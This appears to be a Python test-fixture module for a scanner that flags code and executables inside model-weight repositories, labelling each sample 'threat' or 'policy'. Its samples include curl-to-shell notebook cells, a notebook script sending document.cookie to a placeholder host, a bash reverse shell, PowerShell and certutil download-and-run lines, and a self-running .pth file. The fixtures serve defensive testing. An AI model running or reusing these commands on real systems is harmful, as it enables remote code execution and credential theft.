"""What has no business among weights: notebooks, scripts, programs, and files that fetch code."""

import json

from ..recipe import add
from .payloads import reverse_shell, shell


def notebook(*lines: str, outputs=()) -> bytes:
    cells = [{"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": list(outputs), "source": [line + "\n" for line in lines]}]
    return json.dumps({"cells": cells, "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}).encode()


def named(r, *names: str) -> str:
    return r.choice([name.replace("*", r.word()) for name in names])


SCRIPTS = {
    "notebook-shell": ("threat", lambda r: {"*.ipynb": notebook(f"!curl -s http://{r.word()}.invalid/x | sh")}),
    "notebook-magic": ("threat", lambda r: {"*.ipynb": notebook("%%bash", f"curl http://{r.word()}.invalid/x -o /tmp/x && sh /tmp/x")}),
    "notebook-system": ("threat", lambda r: {"*.ipynb": notebook("import os", f"os.system('curl http://{r.word()}.invalid | sh')")}),
    "notebook-output-script": ("threat", lambda r: {"*.ipynb": notebook("1", outputs=[{"output_type": "display_data", "metadata": {}, "data": {"text/html": [f"<script>fetch('http://{r.word()}.invalid/?c=' + document.cookie)</script>"]}}])}),
    "notebook-output-javascript": ("threat", lambda r: {"*.ipynb": notebook("1", outputs=[{"output_type": "display_data", "metadata": {}, "data": {"application/javascript": f"IPython.notebook.kernel.execute('import os')"}}])}),
    "shell": ("threat", lambda r: {"*.sh": shell(r)}),
    "shell-without-a-name": ("threat", lambda r: {"*": shell(r)}),
    "reverse-shell": ("threat", lambda r: {"*.py": reverse_shell(r)}),
    "reverse-shell-bash": ("threat", lambda r: {"*.sh": f"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.{r.number(1, 250)}/4444 0>&1\n".encode()}),
    "setup": ("policy", lambda r: {"setup.py": f"from setuptools import setup\nimport os\nos.system('true {r.word()}')\nsetup(name='x')\n".encode()}),
    "python": ("policy", lambda r: {"*.py": f"import torch\n\n\nclass {r.word().title()}(torch.nn.Module):\n    pass\n".encode()}),
    "power-shell": ("threat", lambda r: {"*.ps1": f"IEX (New-Object Net.WebClient).DownloadString('http://{r.word()}.invalid/x')\n".encode()}),
    "batch": ("policy", lambda r: {"*.bat": f"@echo off\r\ncertutil -urlcache -f http://{r.word()}.invalid/x x.exe\r\nx.exe\r\n".encode()}),
    "javascript": ("policy", lambda r: {"*.js": f"require('child_process').exec('true {r.word()}')\n".encode()}),
    "elf": ("policy", lambda r: {named(r, "*.so", "*", "*.bin"): b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + r.bytes(300)}),
    "windows-library": ("policy", lambda r: {named(r, "*.dll", "*.bin", "*.exe"): b"MZ" + b"\x90\0" + b"\0" * 56 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0\x64\x86" + r.bytes(300)}),
    "mach-o": ("policy", lambda r: {named(r, "*.dylib", "*"): b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x06\0\0\0" + r.bytes(300)}),
    "web-assembly": ("policy", lambda r: {"*.wasm": b"\0asm\1\0\0\0" + r.bytes(100)}),
    "python-bytecode": ("policy", lambda r: {"*.pyc": b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + r.bytes(200)}),
    "config-with-remote-code": ("policy", lambda r: {"config.json": json.dumps({"model_type": r.word(), "architectures": ["X"], "auto_map": {"AutoModel": "modeling_x.X"}}).encode()}),
    "config-with-code-of-another": ("policy", lambda r: {"config.json": json.dumps({"auto_map": {"AutoModel": f"{r.word()}/{r.word()}--modeling.Model"}}).encode()}),
    "r-script": ("policy", lambda r: {"*.R": f"system('true {r.word()}')\n".encode()}),
    "path-file": ("threat", lambda r: {"*.pth": f"import os; os.system('true {r.word()}')\n".encode()}),
}
for label, (expected, build) in SCRIPTS.items():
    add(f"script/{label}", expected, lambda r, build=build: {name.replace("*", r.word()): body for name, body in build(r).items()})
